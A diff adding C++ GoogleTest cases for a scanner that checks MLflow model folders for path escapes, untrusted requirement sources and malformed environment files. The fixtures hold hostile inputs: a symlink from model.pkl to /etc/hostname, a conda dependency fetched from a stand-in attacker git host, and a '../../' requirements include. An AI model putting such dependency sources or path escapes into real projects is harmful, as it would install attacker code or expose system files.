@@ -3,6 +3,10 @@
 // tests/fixtures/mlflow/make_fixtures.py) and on MLmodel text built here.
 #include <gtest/gtest.h>
 
+#include <unistd.h>
+
+#include <filesystem>
+#include <fstream>
 #include <string>
 
 #include "engine/analyzer.h"
@@ -180,6 +184,87 @@ TEST(MlflowAnalyzerTest, MlmodelWithoutFlavorsIsIncomplete) {
                 "mlflow");
   EXPECT_EQ(target.status, TargetStatus::kIncomplete);
   EXPECT_TRUE(test::Has(target, "MLFLOW-MALFORMED"));
+}
+
+}  // namespace
+}  // namespace mg
+
+namespace mg {
+namespace {
+
+// A model folder written into a fresh temporary directory, removed afterwards.
+class TempModel {
+ public:
+  TempModel() {
+    root_ = std::filesystem::temp_directory_path() /
+            ("modelgate-mlflow-" + std::to_string(::getpid()) + "-" + std::to_string(++count_));
+    std::filesystem::remove_all(root_);
+    std::filesystem::create_directories(root_);
+  }
+  ~TempModel() {
+    std::error_code ignored;
+    std::filesystem::remove_all(root_, ignored);
+  }
+  void Write(const std::string& name, const std::string& text) const {
+    std::ofstream(root_ / name, std::ios::binary) << text;
+  }
+  const std::filesystem::path& root() const { return root_; }
+  Target Scan() const { return ScanFile((root_ / "MLmodel").string(), Limits{}); }
+
+ private:
+  static inline int count_ = 0;
+  std::filesystem::path root_;
+};
+
+TEST(MlflowFolderTest, SymbolicLinkOutOfTheFolderIsAnEscape) {
+  TempModel model;
+  model.Write("MLmodel",
+              "flavors:\n  sklearn:\n    pickled_model: model.pkl\n"
+              "    serialization_format: pickle\n");
+  std::filesystem::create_symlink("/etc/hostname", model.root() / "model.pkl");
+  const Target target = model.Scan();
+  const Finding* finding = Find(target, "MLFLOW-PATH-ESCAPE", "pickled_model: model.pkl");
+  ASSERT_NE(finding, nullptr);
+  EXPECT_EQ(finding->severity, Severity::kCritical);
+}
+
+TEST(MlflowFolderTest, CyclicAliasesInEnvironmentFilesEnd) {
+  TempModel model;
+  model.Write("MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n");
+  model.Write("conda.yaml", "dependencies: &d [{pip: *d}, git+https://attacker.invalid/x.git]\n");
+  model.Write("python_env.yaml", "python: 3.11\ndependencies: [-r ../../requirements.txt]\n");
+  model.Write("requirements.txt", "numpy==1.24.2\n-f /opt/wheels\n");
+  const Target target = model.Scan();
+  EXPECT_NE(Find(target, "MLFLOW-REQUIREMENT-SOURCE", "conda.yaml:1: git+https"), nullptr);
+  EXPECT_NE(Find(target, "MLFLOW-REQUIREMENT-SOURCE", "python_env.yaml:2: -r ../../"), nullptr);
+  EXPECT_NE(Find(target, "MLFLOW-REQUIREMENT-SOURCE", "requirements.txt:2: -f /opt/wheels"),
+            nullptr);
+}
+
+TEST(MlflowFolderTest, UnreadableEnvironmentFileIsIncomplete) {
+  TempModel model;
+  model.Write("MLmodel", "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n");
+  model.Write("conda.yaml", "dependencies: [unclosed\n");
+  const Target target = model.Scan();
+  EXPECT_EQ(target.status, TargetStatus::kIncomplete);
+  const auto findings = test::WithRule(target, "MLFLOW-ENV-MALFORMED");
+  ASSERT_EQ(findings.size(), 1u);
+  EXPECT_NE(findings[0]->message.find("conda.yaml"), std::string::npos);
+}
+
+TEST(MlflowFolderTest, UnknownMlflowNamespaceLoaderIsMedium) {
+  TempModel model;
+  model.Write("MLmodel",
+              "flavors:\n  python_function:\n    loader_module: mlflow.not_a_flavor\n"
+              "  my_flavor: {data: weights.bin}\n");
+  const Target target = model.Scan();
+  const Finding* loader = Find(target, "MLFLOW-LOADER-MODULE", "mlflow.not_a_flavor");
+  ASSERT_NE(loader, nullptr);
+  EXPECT_EQ(loader->severity, Severity::kMedium);
+  EXPECT_TRUE(test::Has(target, "MLFLOW-UNKNOWN-FLAVOR"));
+  const Finding* missing = Find(target, "MLFLOW-MISSING-FILE", "my_flavor/data: weights.bin");
+  ASSERT_NE(missing, nullptr);
+  EXPECT_EQ(missing->severity, Severity::kLow);
 }
 
 }  // namespace
